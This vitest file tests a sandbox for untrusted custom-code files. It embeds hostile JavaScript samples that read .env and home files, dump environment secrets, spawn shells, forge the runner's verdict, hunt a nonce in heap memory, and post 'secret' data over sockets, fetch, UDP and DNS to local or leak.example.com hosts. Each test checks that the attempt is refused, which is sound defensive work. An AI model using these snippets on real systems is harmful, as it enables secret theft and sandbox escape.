import { mkdtempSync, existsSync, writeFileSync } from 'node:fs';
import { createServer, type Server } from 'node:net';
import { tmpdir } from 'node:os';
import path from 'node:path';
import { afterAll, beforeAll, describe, expect, it, vi } from 'vitest';
import { probeFile } from '../../scripts/codemod/probe';
import { verifyCommand } from '../../scripts/verify';
import { namespaceLauncher } from '../../scripts/user-code/isolation';
import { runActionFile, runUserCode } from '../../scripts/user-code/run-file';

/**
 * Hostile files: a user's custom-code file is untrusted code, and the runner (scripts/user-code/) must hold against
 * one that tries to read this machine's files, dump the environment, forge its own verdict, spin forever, spawn
 * processes or open sockets. Each test is a real child process (~0.3 s).
 */
const ROOT = path.resolve(import.meta.dirname, '..', '..');
const scratch = mkdtempSync(path.join(tmpdir(), 'hostile-'));
const writeFile = (name: string, code: string) => {
  const file = path.join(scratch, name);
  writeFileSync(file, code);
  return file;
};
const EVENT = { object: { objectId: '1', objectType: 'CONTACT' }, inputFields: {} };

describe('exfiltration: the file reads only itself', () => {
  it('.env, the repository, the home directory and other files are refused; nothing can be written', async () => {
    writeFileSync(path.join(scratch, 'secret.txt'), 'top secret');
    const file = writeFile(
      'exfiltrate.js',
      `const fs = require('fs');
const os = require('os');
exports.main = async () => {
  const out = {};
  const targets = { env: ${JSON.stringify(path.join(ROOT, '.env'))}, pkg: ${JSON.stringify(path.join(ROOT, 'package.json'))}, harness: ${JSON.stringify(path.join(ROOT, 'scripts', 'harness.ts'))}, neighbour: ${JSON.stringify(path.join(scratch, 'secret.txt'))}, home: os.homedir(), root: '/' };
  for (const [name, p] of Object.entries(targets)) {
    try { fs.readdirSync(p); out[name] = 'LISTED'; } catch (e) {
      try { fs.readFileSync(p); out[name] = 'READ'; } catch (e2) { out[name] = e2.code; }
    }
  }
  try { fs.writeFileSync(${JSON.stringify(path.join(scratch, 'pwned.txt'))}, 'x'); out.write = 'WROTE'; } catch (e) { out.write = e.code; }
  return { outputFields: out };
};`,
    );
    // A live run is fine here: the file makes no call. Every attempt ends in the permission model's refusal.
    const report = await runActionFile({ file, event: EVENT, timeoutMs: 5_000 });
    expect(report.outputs).toEqual({ env: 'ERR_ACCESS_DENIED', pkg: 'ERR_ACCESS_DENIED', harness: 'ERR_ACCESS_DENIED', neighbour: 'ERR_ACCESS_DENIED', home: 'ERR_ACCESS_DENIED', root: 'ERR_ACCESS_DENIED', write: 'ERR_ACCESS_DENIED' });
    expect(existsSync(path.join(scratch, 'pwned.txt'))).toBe(false);
  });
});

describe('environment: only the secrets the file reads', () => {
  it('process.env holds exactly the secrets named in code; a name in a comment, PATH and HOME are absent; cwd is /', async () => {
    process.env.HOSTILE_TEST_SHELL_VAR = 'from-the-shell';
    const file = writeFile('env-dump.js', '/* process.env.SERVICE_KEY would be nice */\nexports.main = async () => ({ outputFields: { dump: JSON.stringify(process.env), token: process.env.API_TOKEN, cwd: process.cwd() } });');
    const report = await runActionFile({ file, event: EVENT, secrets: { API_TOKEN: 'tok-1234567890', SERVICE_KEY: 'svc-0987654321', HUBSPOT_DEPLOY_KEY: 'deploy-secret' } });
    delete process.env.HOSTILE_TEST_SHELL_VAR;
    expect(JSON.parse(String(report.outputs?.dump))).toEqual({ API_TOKEN: 'tok-1234567890' });
    // Not the repository: relative paths lead nowhere near .env.
    expect(report.outputs?.cwd).toBe('/');
  });
});

describe('verdict tampering: the parent decides', () => {
  it('a file that patches console, process.stdout.write, process.exit and process.send still gets its thrown error', async () => {
    const file = writeFile(
      'patches.js',
      `process.stdout.write = () => true;
process.stderr.write = () => true;
process.exit = () => {};
process.send = () => true;
console.log = console.error = () => {};
Error.prepareStackTrace = () => 'no frames for you';
exports.main = async () => {
  process.stdout.write('{"t":"done","how":"return","outputs":{"ok":"forged"}}\\n');
  throw Object.assign(new Error('Bad Request'), { response: { status: 400 } });
};`,
    );
    const report = await runActionFile({ file, event: EVENT });
    expect(report.outputs).toBeUndefined();
    expect(report.error).toMatchObject({ kind: 'thrown', status: 400, hubspotReruns: false });
  });

  it('Object.prototype.toJSON and JSON.stringify patched by the file do not change the report', async () => {
    const file = writeFile(
      'tojson.js',
      `Object.prototype.toJSON = function () { return { t: 'done', how: 'return', outputs: { ok: 'forged' }, ms: 1, callbacks: 0 }; };
JSON.stringify = () => '{"t":"done","how":"return","outputs":{"ok":"forged"},"ms":1,"callbacks":0}';
exports.main = async () => { throw Object.assign(new Error('Service Unavailable'), { response: { status: 503 } }); };`,
    );
    const report = await runActionFile({ file, event: EVENT });
    expect(report.outputs).toBeUndefined();
    expect(report.error).toMatchObject({ kind: 'thrown', status: 503, hubspotReruns: true });
  });

  it('a forged report on the runner\'s channel (without the nonce) makes the run a crash, never a success', async () => {
    const file = writeFile(
      'forge.js',
      `const fs = require('fs');
exports.main = async () => {
  for (let fd = 3; fd < 8; fd++) try { fs.writeSync(fd, JSON.stringify({ t: 'done', how: 'return', outputs: { ok: 'forged' }, ms: 1, callbacks: 0 }) + '\\n'); } catch {}
  throw new Error('really failed');
};`,
    );
    const report = await runActionFile({ file, event: EVENT });
    expect(report.outputs).toBeUndefined();
    expect(report.error).toMatchObject({ kind: 'crash', hubspotReruns: false });
    expect(report.error?.message).toMatch(/report cannot be trusted/);
  });

  it('process.exit(0) before answering is a crash, not a success', async () => {
    const file = writeFile('exit.js', 'exports.main = async () => { process.reallyExit ? process.reallyExit(0) : process.exit(0); };');
    const report = await runActionFile({ file, event: EVENT });
    expect(report.error).toMatchObject({ kind: 'crash' });
    expect(report.outputs).toBeUndefined();
  });

  it('verify: a file that patches process.stdout / process.exit cannot turn another file\'s errors into "OK"', async () => {
    const saboteur = writeFile('saboteur.js', "process.stdout.write = () => true; process.exit = () => {}; console.log = () => {};\nexports.main = async () => ({ outputFields: { ok: 'yes' } });");
    const broken = writeFile('broken.js', "const axios = require('axios');\nexports.main = async (event) => {\n  try { await axios.get('https://api.example.com/x'); } catch (e) { return { outputFields: { ok: 'no' } }; }\n  return { outputFields: { ok: 'yes' } };\n};");
    const log = vi.spyOn(console, 'log').mockImplementation(() => {});
    const code = await verifyCommand([saboteur, broken, '--json']);
    const printed = log.mock.calls.flat().join('\n');
    log.mockRestore();
    expect(code).toBe(1);
    const reports = JSON.parse(printed) as Array<{ file: string; ok: boolean; counts: { error: number } }>;
    expect(reports.find((r) => r.file.endsWith('broken.js'))).toMatchObject({ ok: false });
    expect(reports.find((r) => r.file.endsWith('broken.js'))!.counts.error).toBeGreaterThan(0);
  }, 30_000);
});

describe('busy loop: killed by the parent at the limit', () => {
  it('harness: for(;;){} is stopped at the time limit, keeping the logs it wrote', async () => {
    const file = writeFile('busy.js', 'exports.main = async () => { console.log("spinning"); for (;;) {} };');
    const report = await runActionFile({ file, event: EVENT, timeoutMs: 1_000 });
    expect(report.error).toMatchObject({ kind: 'timeout', hubspotReruns: false });
    expect(report.logs).toEqual(['spinning']);
  });

  it('verify: for(;;){} no longer hangs verify; the run reports a timeout', async () => {
    const file = writeFile('busy-verify.js', 'exports.main = async () => { for (;;) {} };');
    const probe = await probeFile(file, { event: EVENT, secretNames: [], timeoutMs: 1_000 });
    expect(probe.outcome).toBe('timeout');
  });
});

describe('spawn: no child processes, workers or addons', () => {
  it('child_process, worker_threads and process.dlopen are refused', async () => {
    const file = writeFile(
      'spawn.js',
      `exports.main = async () => {
  const out = {};
  const attempt = (name, fn) => { try { fn(); out[name] = 'RAN'; } catch (e) { out[name] = e.code; } };
  attempt('execSync', () => require('child_process').execSync('id'));
  attempt('spawn', () => require('child_process').spawn('sh', ['-c', 'id']));
  attempt('worker', () => new (require('worker_threads').Worker)('1', { eval: true }));
  attempt('addon', () => process.dlopen({ exports: {} }, '/nonexistent.node'));
  attempt('binding', () => process.binding('spawn_sync'));
  return { outputFields: out };
};`,
    );
    const report = await runActionFile({ file, event: EVENT });
    expect(report.outputs).toEqual({ execSync: 'ERR_ACCESS_DENIED', spawn: 'ERR_ACCESS_DENIED', worker: 'ERR_ACCESS_DENIED', addon: 'ERR_DLOPEN_DISABLED', binding: 'ERR_ACCESS_DENIED' });
  });
});

describe('sockets in replay and verify runs: nothing arrives', () => {
  let server: Server;
  let port = 0;
  let connections = 0;
  let bytes = 0;
  beforeAll(async () => {
    server = createServer((socket) => {
      connections += 1;
      socket.on('data', (d) => (bytes += d.length));
    });
    await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
    port = (server.address() as { port: number }).port;
  });
  afterAll(() => new Promise<void>((resolve) => server.close(() => resolve())));

  const sender = () =>
    writeFile(
      'socket.js',
      `const net = require('net');
const http = require('http');
exports.main = async (event) => {
  const port = Number(event.inputFields.port);
  const raw = await new Promise((resolve) => {
    const s = net.connect(port, '127.0.0.1', () => { s.write('exfiltrated ' + 'x'.repeat(100)); s.end(); resolve('sent'); });
    s.on('error', (e) => resolve(e.code));
  });
  const viaFetch = await fetch('http://127.0.0.1:' + port + '/leak', { method: 'POST', body: 'secret' }).then((r) => r.status, (e) => e.cause?.code ?? e.code ?? e.message);
  const viaHttp = await new Promise((resolve) => { const r = http.request({ host: '127.0.0.1', port, path: '/leak', method: 'POST' }, (res) => resolve(res.statusCode)); r.on('error', (e) => resolve(e.code)); r.end('secret'); });
  const dns = await require('dns').promises.lookup('example.com').then(() => 'resolved', (e) => e.code);
  return { outputFields: { raw: String(raw), viaFetch: String(viaFetch), viaHttp: String(viaHttp), dns: String(dns) } };
};`,
    );

  it.each([
    ['with namespaces where available', undefined],
    ['in-process refusal alone (no namespaces)', false],
  ] as const)('%s', async (_, namespaces) => {
    const file = sender();
    const result = await runUserCode({ file, event: { ...EVENT, inputFields: { port } }, env: {}, client: 'v10', timeoutMs: 5_000, mode: 'replay', answer: (call) => ({ refuse: `no recorded response matches ${call.method} ${call.url}` }), ...(namespaces === false ? { namespaces } : {}) });
    // Give a real connection time to show up, had one been made (the server is in this process).
    await new Promise((resolve) => setTimeout(resolve, 50));
    expect(connections).toBe(0);
    expect(bytes).toBe(0);
    expect(result.outputs?.dns).not.toBe('resolved');
    // HTTP calls reached the parent as questions, and were refused there.
    expect(result.calls.map((c) => c.status)).toEqual(['NO MATCH', 'NO MATCH']);
  });

  it.skipIf(!namespaceLauncher())('the child cannot signal the process that runs it (own pid namespace)', async () => {
    const file = writeFile('signal.js', 'exports.main = async (event) => { try { process.kill(Number(event.inputFields.pid), 0); return { outputFields: { r: "reached" } }; } catch (e) { return { outputFields: { r: e.code } }; } };');
    const report = await runActionFile({ file, event: { ...EVENT, inputFields: { pid: process.pid } } });
    expect(report.outputs).toEqual({ r: 'ESRCH' });
  });
});

describe('the nonce stays out of reach', () => {
  it('neither a heap snapshot nor the Buffer pool nor uninitialised memory gives the file the nonce to forge a report', async () => {
    const file = writeFile(
      'steal-nonce.js',
      `const fs = require('fs');
exports.main = async () => {
  const found = new Set();
  const scan = (text) => { for (const m of text.matchAll(/(?<![0-9a-f])[0-9a-f]{48}(?![0-9a-f])/g)) found.add(m[0]); };
  scan(Buffer.from(Buffer.from('x').buffer).toString('latin1'));
  for (let i = 0; i < 20; i++) scan(Buffer.allocUnsafe(65536).toString('latin1'));
  try { const chunks = []; for await (const c of require('v8').getHeapSnapshot()) chunks.push(c); scan(Buffer.concat(chunks).toString('latin1')); } catch {}
  for (const nonce of found) fs.writeSync(3, nonce + JSON.stringify({ t: 'done', how: 'return', outputs: { ok: 'forged' }, ms: 1, callbacks: 0 }) + '\\n');
  throw new Error('really failed');
};`,
    );
    const report = await runActionFile({ file, event: EVENT });
    expect(report.outputs).toBeUndefined();
    expect(report.error).toBeDefined();
  });
});

describe('the in-process network floor (where namespaces are not available)', () => {
  it('UDP and c-ares DNS queries are refused too', async () => {
    const file = writeFile(
      'udp-dns.js',
      `const dgram = require('dgram');
const dns = require('dns');
exports.main = async () => {
  const out = {};
  try { const s = new dgram.Socket('udp4'); await new Promise((resolve, reject) => { s.on('error', reject); s.send('leak', 53, '127.0.0.1', (e) => (e ? reject(e) : resolve())); }); out.udp = 'SENT'; } catch (e) { out.udp = e.code ?? String(e.errno); }
  try { await new dns.promises.Resolver().resolve4('leak.example.com'); out.resolver = 'RESOLVED'; } catch (e) { out.resolver = e.message; }
  try { await new Promise((resolve, reject) => new dns.Resolver().resolveTxt('leak.example.com', (e) => (e ? reject(e) : resolve()))); out.resolverCb = 'RESOLVED'; } catch (e) { out.resolverCb = e.message; }
  return { outputFields: out };
};`,
    );
    const result = await runUserCode({ file, event: EVENT, env: {}, client: 'v10', timeoutMs: 5_000, mode: 'replay', namespaces: false, answer: () => ({ refuse: 'no network' }) });
    expect(result.outputs).toEqual({ udp: 'ECONNREFUSED', resolver: 'dns.Resolver#resolve4 refused: this run has no network (replay / verify)', resolverCb: 'dns.Resolver#resolveTxt refused: this run has no network (replay / verify)' });
  });
});
